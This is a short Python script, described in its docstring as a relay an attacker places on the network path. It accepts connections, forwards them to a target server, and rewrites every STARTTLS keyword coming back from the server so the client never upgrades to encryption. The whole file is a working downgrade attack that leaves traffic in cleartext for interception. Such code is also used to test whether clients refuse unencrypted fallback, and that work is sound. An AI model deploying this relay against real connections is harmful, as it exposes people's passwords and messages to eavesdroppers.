"""A relay that an attacker would place on the path: strip.py HOST PORT TOHOST TOPORT - hides the word STARTTLS from the client."""
import socket, sys, threading


def pump(a, b, edit):
    try:
        while d := a.recv(4096):
            b.sendall(d.replace(b"STARTTLS", b"XXXXXXXA") if edit else d)
    except OSError:
        pass
    finally:
        try:
            b.shutdown(socket.SHUT_WR)
        except OSError:
            pass


s = socket.create_server((sys.argv[1], int(sys.argv[2])))
while True:
    a = s.accept()[0]
    b = socket.create_connection((sys.argv[3], int(sys.argv[4])))
    threading.Thread(target=pump, args=(a, b, False), daemon=True).start()
    threading.Thread(target=pump, args=(b, a, True), daemon=True).start()
